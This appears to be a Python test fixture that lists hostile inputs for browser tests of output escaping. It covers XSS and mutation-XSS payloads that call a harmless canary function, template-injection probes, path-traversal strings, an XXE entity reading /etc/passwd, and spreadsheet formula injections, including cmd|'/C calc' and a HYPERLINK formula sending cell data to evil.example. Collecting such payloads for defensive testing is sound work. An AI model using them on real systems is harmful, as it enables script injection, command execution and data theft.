"""A corpus of hostile text: what an attacker would put into a cell, by the place it aims at.

`canary` is a function that the browser tests define: whatever runs calls it.
"""

from __future__ import annotations

RUN = "canary(1)"

HTML = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'"><svg onload="{RUN}">',
    f"' autofocus onfocus='{RUN}' x='",
    f'" onmouseover="{RUN}" x="',
    f"` onerror=`{RUN}`",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "</title></textarea></style></noscript></template></select></table></svg>",
)
# What one parser writes and another reads otherwise.
MUTATION = (
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62; &amp;lt;",
    "<![CDATA[<script>]]> <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
)
TEMPLATES = (
    "{{ 7 * 7 }} {{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %} {# x #}",
    "${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(x)s %s $x \\1 \\g<0>",
    "${" + RUN + "} `${" + RUN + "}`",
)
MARKDOWN = (
    f"[x](javascript:{RUN}) ![x](https://evil.example/x.png) [x](//evil.example/)",
    "[x][evil] [evil]: https://evil.example/ <https://evil.example/> **b** _i_ `c` ~~s~~ | a | b |",
    "# h ## h - l * l + l 1. l > q === --- *** ![x][evil] [^1]",
)
JSON = (
    f"</script><script>{RUN}</script><!-- --> <!--<script> ]]> \\u003cscript\\u003e",
    '\\"},{"x":"\\ \\\\ \u2028 \u2029 */ /* // __proto__ constructor',
)
ADDRESSES = (
    "../../../etc/passwd ..\\..\\x %2e%2e%2f%2e%2e%2fx /etc/passwd C:\\x \\\\host\\x file:///x",
    f"javascript:{RUN} JaVaScRiPt:{RUN} java\tscript:{RUN} data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN} //evil.example/ \\\\evil.example https://evil.example/?a=1&b=2#c",
)
SPREADSHEETS = "=cmd|'/C calc'!A0"
FORMULAS = (
    SPREADSHEETS,
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

TEXTS = (*HTML, *MUTATION, *TEMPLATES, *MARKDOWN, *JSON, *ADDRESSES)

# Each has a place for a mark that no other address has.
LINKS = (
    "javascript:canary('{mark}')",
    " javascript:canary('{mark}')",
    "java\nscript:canary('{mark}')",
    "JAVASCRIPT://www.example.org/%0acanary('{mark}')",
    "data:text/html,<script>parent.canary('{mark}')</script>",
    "vbscript:canary('{mark}')",
    "//evil.example/{mark}",
    "\\\\evil.example\\{mark}",
    "https:evil.example/{mark}",
    'https://www.example.org/{mark}"onmouseover="canary(1)',
    "https://www.example.org/{mark}'><img src=x onerror=canary(1)>",
    "https://www.example.org\\@evil.example/{mark}",
    "https://www.example.org@evil.example/{mark}",
    "file:///etc/passwd?{mark}",
)

# Ids, codes and slugs that an address is made from.
PATHS = (
    "../../../tmp/escaped",
    "..",
    ".",
    "",
    "/etc/escaped",
    "..\\..\\escaped",
    "%2e%2e%2fescaped",
    "a/../../escaped",
    "a//escaped",
    "a/./escaped",
    "escaped\x00.html",
    "escaped\n",
    "C:escaped",
    "\\\\host\\escaped",
    "~/escaped",
    ".htaccess",
    "\u2025/escaped",
)
